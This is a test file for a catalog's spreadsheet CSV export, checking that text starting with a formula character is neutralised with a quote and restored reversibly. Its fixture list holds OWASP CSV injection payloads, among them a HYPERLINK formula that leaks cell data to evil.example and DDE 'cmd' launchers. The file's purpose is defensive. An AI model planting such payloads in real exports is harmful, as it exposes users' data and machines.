import { neutralizeFormula, parseCsv, restoreFormula, toSpreadsheetCsvLine } from '@qsmo/catalog/csv';

/** OWASP's CSV injection payloads, as an editor could write them into catalog text. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('spreadsheet CSV cells', () => {
  test('every formula-leading text gets one leading quote and reads back, quoted where RFC 4180 needs it', () => {
    for (const text of HOSTILE) {
      expect(neutralizeFormula(text)).toBe(`'${text}`);
      const line = toSpreadsheetCsvLine(['id', text]);
      const [row] = parseCsv(`a,b\n${line}\n`, 'hostile.csv');
      expect(row).toEqual({ a: 'id', b: `'${text}` });
      expect(restoreFormula(row!.b!)).toBe(text);
    }
  });

  test('ordinary text, numbers and booleans are left as they are; a negative number stays a number', () => {
    expect(toSpreadsheetCsvLine(['GrantSolutions', 'a, b', -12, 3.5, true, null, undefined, ''])).toBe('GrantSolutions,"a, b",-12,3.5,true,,,');
    // A text that merely starts with a quote (a reference note does) is not touched either way.
    expect(neutralizeFormula("'The latest shared service")).toBe("'The latest shared service");
    expect(restoreFormula("'The latest shared service")).toBe("'The latest shared service");
    expect(restoreFormula('=typed in by hand')).toBe('=typed in by hand');
  });

  test('the quote is reversible for any text, also one that already starts with quotes before a formula', () => {
    for (const text of ["'=1+1", "''@x", "'", "''", '-', '=', 'plain', "'-5"]) {
      expect(restoreFormula(neutralizeFormula(text))).toBe(text);
    }
    expect(neutralizeFormula("'=1+1")).toBe("''=1+1");
  });
});
